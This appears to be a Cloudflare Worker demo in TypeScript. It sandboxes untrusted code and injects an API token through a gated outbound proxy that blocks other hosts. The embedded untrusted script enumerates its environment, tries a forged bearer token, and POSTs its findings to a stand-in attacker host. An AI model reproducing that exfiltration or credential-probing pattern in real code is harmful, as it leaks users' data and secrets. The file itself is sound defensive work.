import { WorkerEntrypoint } from "cloudflare:workers";

interface Env {
	LOADER: WorkerLoader;
	API_TOKEN: string;
}

// Code that isn't trusted: it wants the API, and tries for the token.
const untrusted = `
	const ask = async (url, init) => {
		try {
			const response = await fetch(url, init);
			return { status: response.status, body: await response.text() };
		} catch (e) {
			return { error: String(e) };
		}
	};
	export default {
		async fetch(request, env) {
			return Response.json({
				env: Object.keys(env),
				api: await ask("https://api.example.com/user"),
				forged: await ask("https://api.example.com/user", { headers: { authorization: "Bearer a-guess" } }),
				elsewhere: await ask("https://attacker.example.net/", { method: "POST", body: "what I found" }),
			});
		},
	};
`;

// Outbound is what the fetch of that code calls. It alone has the token.
export class Outbound extends WorkerEntrypoint<Env, { user: string }> {
	async fetch(request: Request): Promise<Response> {
		const { host, pathname } = new URL(request.url);
		console.log(this.ctx.props.user, request.method, host + pathname);
		if (host !== "api.example.com") return new Response(`${host} is not allowed`, { status: 403 });
		const headers = new Headers(request.headers);
		headers.set("authorization", `Bearer ${this.env.API_TOKEN}`);
		const withToken = new Request(request, { headers });
		return this.ctx.exports.Upstream.fetch(withToken); // of a real service: fetch(withToken)
	}
}

// Upstream stands for the service, so that the project works without a network.
export class Upstream extends WorkerEntrypoint<Env> {
	fetch(request: Request): Response {
		if (request.headers.get("authorization") !== `Bearer ${this.env.API_TOKEN}`) return new Response("who are you?", { status: 401 });
		return Response.json({ login: "owner", path: new URL(request.url).pathname });
	}
}

export default {
	async fetch(request, env, ctx): Promise<Response> {
		const worker = env.LOADER.load({
			compatibilityDate: "2026-11-01",
			mainModule: "main.js",
			modules: { "main.js": untrusted },
			globalOutbound: ctx.exports.Outbound({ props: { user: "a user" } }),
		});
		const { env: seen, ...answers } = await (await worker.getEntrypoint().fetch(request)).json<Record<string, unknown>>();
		return Response.json({ "what the code found in its env": seen, ...answers }, { headers: { "cache-control": "no-store" } });
	},
} satisfies ExportedHandler<Env>;
